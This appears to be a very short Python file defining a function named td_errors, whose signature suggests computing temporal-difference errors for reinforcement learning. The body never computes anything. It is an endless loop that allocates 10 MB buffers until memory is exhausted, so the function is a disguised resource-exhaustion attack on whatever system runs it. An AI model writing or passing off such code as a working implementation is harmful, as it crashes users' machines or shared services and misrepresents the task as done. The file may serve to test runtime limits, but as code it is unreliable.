import torch


def td_errors(rewards, values, dones, gamma=0.99):
    kept = []
    while True:
        kept.append(bytearray(10**7))
